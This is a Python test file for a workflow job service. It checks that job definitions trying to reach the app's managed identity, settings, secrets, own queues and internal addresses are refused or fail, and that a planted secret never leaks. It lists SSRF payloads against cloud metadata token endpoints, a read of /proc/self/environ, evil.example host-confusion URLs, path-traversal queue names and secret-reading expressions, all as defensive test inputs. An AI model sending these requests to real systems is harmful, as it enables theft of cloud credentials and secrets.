"""Attempts to get at the app's identity, settings, storage and secrets through jobs."""

import json
import logging
import zlib
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from aiohttp import web
from azure.storage.queue import TextBase64DecodePolicy
from azure.storage.queue.aio import QueueClient

from shared.errors import Misconfigured
from tests.engine.test_steps import steps_job
from tests.harness import Bench, Hit, Receiver, bench, receiving

OWN_QUEUE = "own-tickets-of-theft"
SECRET = "Bearer pl4nted-s3cret/with+signs=="
BARE = SECRET.removeprefix("Bearer ")
IDENTITY = {"type": "ManagedServiceIdentity", "audience": "api://reports"}
RAW = {"type": "Raw", "value": {"setting": "SECRET_REPORTS"}}


@pytest.fixture
async def platform(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Receiver]:
    """Where the platform would give tokens: nobody must come."""
    async with receiving() as receiver:
        monkeypatch.setenv("IDENTITY_ENDPOINT", receiver.url)
        monkeypatch.setenv("IDENTITY_HEADER", "platform-header")
        monkeypatch.setenv("SECRET_REPORTS", SECRET)
        yield receiver
        assert receiver.hits == []


@pytest.fixture
async def careful(storage: str, platform: Receiver) -> AsyncIterator[Bench]:
    """An app whose operator allows something, this machine's addresses too, but nothing of what is tried."""
    allowed = {
        "QUEUE_NAME": OWN_QUEUE,
        "QUEUE_TARGETS": '["orders"]',
        "IDENTITY_TARGETS": '{"api://reports": ["reports.example.org", "*.example.net"]}',
        "SECRET_HOSTS": '["reports.example.org", "*.example.net"]',
    }
    async with bench(storage, None, PARTITIONS="1", **allowed) as made:
        yield made


def ports(storage: str, *services: str) -> list[int]:
    parts = dict(part.split("=", 1) for part in storage.split(";") if part)
    return [urlsplit(parts[f"{service}Endpoint"]).port or 0 for service in services]


def forbidden_uris(storage: str, platform: Receiver) -> list[str]:
    """Addresses of the app's own, in several ways of writing them."""
    own = [urlsplit(platform.url).port, *ports(storage, "Queue", "Table")]
    hosts = (
        "127.0.0.1",
        "127.0.0.2",
        "localhost",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "0.0.0.0",
        "2130706433",
    )
    return [
        *(f"http://{host}:{port}/devstoreaccount1?x" for port in own for host in hosts),
        "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net",
        "http://168.63.129.16/machine?comp=goalstate",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    ]


def http(uri: str, **inputs: Any) -> dict[str, Any]:
    return {"type": "Http", "inputs": {"method": "GET", "uri": uri} | inputs}


def queue(name: str, **inputs: Any) -> dict[str, Any]:
    return {"type": "Queue", "inputs": {"queue": name, "message": '{"partition": "00", "due": "x"}'} | inputs}


def to_reports(**inputs: Any) -> dict[str, Any]:
    return http("https://reports.example.org/", **inputs)


ATTEMPTS: list[tuple[dict[str, Any], str]] = [
    # The identity.
    (to_reports(headers={"X-IDENTITY-HEADER": "x"}), "headers.X-IDENTITY-HEADER"),
    (to_reports(headers={"Metadata": "true"}), "headers.Metadata"),
    (to_reports(headers={"X-MS-CLIENT-PRINCIPAL": "e30="}), "headers.X-MS-CLIENT-PRINCIPAL"),
    *[
        (http(uri, authentication=authentication), "authentication")
        for authentication in (IDENTITY, RAW)
        for uri in (
            "https://evil.example/",
            "https://reports.example.org.evil.example/",
            "https://evil.example/reports.example.org",
            "https://evil.example?reports.example.org",
            "https://evil.example#.example.net",
            "https://evilexample.net/",
            "https://example.net/",
            "http://reports.example.org/",
            "http://127.0.0.1.example.net/",
            "https://evil.example/@{parameters('p')}",
        )
    ],
    (http("https://reports.example.org@evil.example/", authentication=IDENTITY), "uri"),
    (http("https://evil.example\\.example.net/", authentication=IDENTITY), "uri"),
    *[
        (to_reports(authentication=IDENTITY | {"audience": audience}), "authentication.audience")
        for audience in ("https://vault.azure.net", "https://management.azure.com/", "api://reports/.default", "*")
    ],
    (to_reports(authentication=IDENTITY | {"audience": "@parameters('p')"}), "authentication.audience"),
    (to_reports(authentication=IDENTITY | {"identity": "x&resource=y"}), "authentication.identity"),
    # The settings.
    *[
        (to_reports(authentication={"type": "Raw", "value": {"setting": name}}), "authentication.value.setting")
        for name in ("AzureWebJobsStorage", "IDENTITY_HEADER", "HEALTH_KEY", "SECRET_HOSTS", "PATH", "SECRET_")
    ],
    (
        to_reports(authentication={"type": "Raw", "value": {"setting": "SECRET_@{parameters('p')}"}}),
        "authentication.value.setting",
    ),
    (to_reports(authentication={"type": "Raw", "value": SECRET}), "authentication.value"),
    *[
        (to_reports(body=expression, method="POST"), "body")
        for expression in ("@appsetting('SECRET_REPORTS')", "@{env('PATH')}", "@listKeys('x')", "@parameters('P')")
    ],
    (http("file:///proc/self/environ"), "uri"),
    # The app's own queues.
    (queue(OWN_QUEUE), "queue"),
    (queue(OWN_QUEUE + "-poison"), "queue"),
    (queue("orders-poison"), "queue"),
    (queue("azure-webjobs-blobtrigger-x"), "queue"),
    (queue(OWN_QUEUE.upper()), "queue"),
    (queue(f"orders/../{OWN_QUEUE}"), "queue"),
    (queue(f"orders/messages?x={OWN_QUEUE}"), "queue"),
    (queue("@parameters('p')"), "queue"),
]


async def test_each_attempt_is_refused_naming_its_field(careful: Bench, platform: Receiver, storage: str) -> None:
    by_uri = [(http(uri), "uri") for uri in forbidden_uris(storage, platform)]
    for action, field in [*ATTEMPTS, *by_uri]:
        answer = await careful.call("create", body=steps_job({"A": action}, parameters={"p": OWN_QUEUE}))
        assert answer.status == 400, action
        assert [error["field"] for error in answer.body["errors"]] == [f"actions.A.inputs.{field}"], answer.body
        assert BARE not in json.dumps(answer.body)
    assert await careful.rows("job") == []


async def test_what_creation_cannot_see_is_refused_by_the_run(
    careful: Bench, platform: Receiver, storage: str
) -> None:
    uris = {f"u{n}": uri for n, uri in enumerate(forbidden_uris(storage, platform))}
    actions = {name: http(f"@parameters('{name}')") for name in uris}
    actions |= {
        f"{kind}{n}": http(f"@parameters('e{n}')", authentication=authentication)
        for kind, authentication in (("i", IDENTITY), ("r", RAW))
        for n in range(3)
    }
    evil = {
        "e0": "https://evil.example/",
        "e1": "http://a.example.net/",
        "e2": "https://evil.example#.example.net",
    }
    await careful.create(id="a", **steps_job(actions, parameters=uris | evil))
    await careful.dispatch()
    (run,) = await careful.runs("a")
    assert run["status"] == "Failed"
    for name, action in run["actions"].items():
        assert (action["status"], action["attempts"]) == ("Failed", 1), name  # and is not retried
        assert action["reason"].startswith("the request leads to " if name in uris else "authentication "), action


async def test_a_redirect_to_the_apps_own_is_refused(
    careful: Bench, platform: Receiver, storage: str, target: Receiver
) -> None:
    uris = forbidden_uris(storage, platform)

    async def redirect(hit: Hit) -> web.Response:
        return web.Response(status=302, headers={"Location": uris[int(hit.path.rpartition("/")[2])]})

    target.answer = redirect
    await careful.create(id="a", **steps_job({f"A{n}": http(f"{target.url}/{n}") for n in range(len(uris))}))
    await careful.dispatch()
    (run,) = await careful.runs("a")
    assert len(run["actions"]) == len(target.hits) == len(uris)
    for action in run["actions"].values():
        assert (action["status"], action["attempts"]) == ("Failed", 1)
        assert action["reason"].startswith("the request leads to ")


@pytest.mark.parametrize("name", ["OUTBOUND_ALLOW", "OUTBOUND_DENY"])
async def test_a_wrong_setting_is_told_when_the_app_starts(storage: str, name: str) -> None:
    with pytest.raises(Misconfigured) as raised:
        async with bench(storage, None, **{name: '["10.0.0.1/8"]'}):
            pass
    assert [fault.field for fault in raised.value.faults] == [name]


async def test_a_planted_secret_is_found_nowhere(
    storage: str, target: Receiver, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Its runs fail, are repeated, redirected and polled, and everybody who is called says it again."""
    monkeypatch.setenv("SECRET_REPORTS", SECRET)
    caplog.set_level(logging.DEBUG)
    echo = json.dumps({"got": SECRET, BARE: [BARE]})
    async with receiving() as elsewhere:
        told = {"Content-Type": "application/json", "X-Echo": SECRET, "Set-Cookie": f"s={BARE}"}
        places = {"retry": 503, "fail": 400, "redirect": 302, "own": 307, "leak": 302, "poll": 202, "hint": 202}
        where = {"own": "/hook/fail", "leak": f"{elsewhere.url}?t={BARE}", "hint": f"/status?t={BARE}"}

        async def answer(hit: Hit) -> web.Response:
            kind = hit.path.rpartition("/")[2]
            location = {"Location": where.get(kind, elsewhere.url)} if 200 < places.get(kind, 0) < 400 else {}
            return web.Response(status=places.get(kind, 200), headers=told | location, text=echo)

        async def gossip(hit: Hit) -> web.Response:
            return web.Response(status=500, headers=told, text=echo)

        target.answer, elsewhere.answer = answer, gossip
        retry = {"type": "fixed", "count": 1, "interval": "PT5S"}
        actions = {
            kind: http(f"{target.url}/{kind}", authentication=RAW, retryPolicy=retry) for kind in [*places, "fine"]
        }
        settings = {"SECRET_HOSTS": '["127.0.0.1"]', "EVENTS_QUEUE": "theft-events"}
        async with bench(storage, None, **settings) as at:
            answers = [await at.create(id="a", **steps_job(actions))]
            rows = []
            for _ in range(4):
                await at.dispatch()
                answers += [(await at.call("get", id="a")).body, await at.runs("a")]
                rows += [row for kind in ("job", "timer", "run", "idle", "past") for row in await at.rows(kind)]
                at.clock.advance(seconds=30)
            (run,) = answers[-1]
            events = QueueClient.from_connection_string(
                storage, "theft-events", message_decode_policy=TextBase64DecodePolicy()
            )
            async with events:
                messages = [message.content async for message in events.receive_messages()]
    assert run["status"] == "Failed"
    assert {name for name, action in run["actions"].items() if action["status"] == "Succeeded"} == {"fine"}
    assert {hit.headers.get("Authorization") for hit in target.hits} == {SECRET}
    assert {hit.headers.get("Authorization") for hit in elsewhere.hits} == {None}
    assert len(elsewhere.hits) == 4  # a redirect and a poll, each repeated
    assert "***" in json.dumps(run)
    assert messages
    assert rows
    logged = caplog.text + str([vars(record) for record in caplog.records])
    for text in (json.dumps(answers), logged, readable(rows), *messages):
        assert "pl4nted" not in text


def readable(rows: list[Any]) -> str:
    """All that rows hold, what is packed in them unpacked."""
    found = []
    for row in rows:
        for value in row.values():
            found.append(str(value))
            if isinstance(value, bytes):
                found.append(zlib.decompress(value).decode() if value[:1] == b"\x78" else repr(value))
    return "\n".join(found)
